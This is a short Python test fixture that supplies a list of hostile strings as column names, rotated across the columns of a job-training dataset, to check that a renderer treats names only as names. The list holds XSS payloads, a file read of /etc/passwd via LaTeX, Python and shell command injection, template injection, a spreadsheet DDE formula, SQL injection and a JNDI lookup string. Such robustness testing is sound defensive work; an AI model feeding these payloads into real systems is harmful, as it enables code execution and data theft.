"""Names that a table may carry and that no document may take for anything but a name."""

HOSTILE = (
    "</script><img src=x onerror=alert(1)>",
    "[a](javascript:alert(1))",
    "![beacon](https://example.org/x.png)",
    "$\\input{/etc/passwd}$",
    "'); __import__('os').system('touch pwned') #",
    '"]}\n!touch pwned\n%system touch pwned',
    "{{7*7}} {% raw %} {0.__class__}",
    "=cmd|'/c calc'!A0",
    "re\u202e78\u200b\x00",
    "``` \n# heading\n---",
    "http://example.org www.example.org a@example.org",
    "年収 ∂y/∂x é",
    "<svg/onload=alert(1)>",
    "' OR 1=1 -- ${jndi:ldap://x}",
)


def renamed(position: int) -> dict[str, str]:
    """Return the sample's columns under hostile names, turned by `position` so that each plays each role."""
    columns = ("treat", "age", "educ", "black", "re74", "re75", "re78", "note")
    return {c: HOSTILE[(i + position) % len(HOSTILE)] for i, c in enumerate(columns)}
